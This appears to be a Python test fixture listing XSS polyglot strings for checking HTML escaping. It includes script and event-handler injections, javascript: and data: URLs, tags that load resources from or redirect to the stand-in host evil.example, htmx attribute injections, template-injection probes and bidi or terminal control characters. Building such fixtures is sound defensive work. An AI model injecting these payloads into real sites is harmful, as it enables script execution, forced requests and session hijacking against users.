"""Texts that would run, load or break out, if anything did not escape them."""

from __future__ import annotations

_RUN = "window.pwned=1;alert(1)"

# Each of them sets window.pwned, opens a dialog, or asks a server of its own.
POLYGLOTS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</pre></td></table><script>{_RUN}</script>",
    f"</code><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror='{_RUN}'>",
    f"\"><img src=x onerror='{_RUN}'>",
    f'\'><img src=x onerror="{_RUN}">',
    f"<svg onload='{_RUN}'>",
    f"<svg><animate onbegin='{_RUN}' attributeName=x dur=1s>",
    f"<details open ontoggle='{_RUN}'>",
    f"<body onload='{_RUN}'>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f'" onmouseover="{_RUN}" style="position:fixed;inset:0" x="',
    f"javascript:{_RUN}",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={_RUN} )//%0D%0A//</stYle/</titLe/"
    f"</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={_RUN}//>\\x3e",
    f"data:text/html,<script>{_RUN}</script>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{background:url(http://evil.example/x.png)}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><button autofocus>Go</button></form>",
    "<object data=http://evil.example/x.swf></object>",
    '<div hx-get="/logout" hx-trigger="load" hx-swap="outerHTML">x</div>',
    f"<div hx-on:htmx:load='{_RUN}' data-hx-on::load='{_RUN}'>x</div>",
    '" hx-get="http://evil.example/" hx-trigger="load" x="',
    "{{ 7 * 7 }}{% raw %}{{ ''.__class__.__mro__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    "\u202egpj.exe\u2066\u200b\u2028\u2029\x1b[2J\x1b]0;x\x07",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror='{_RUN}'>",
)
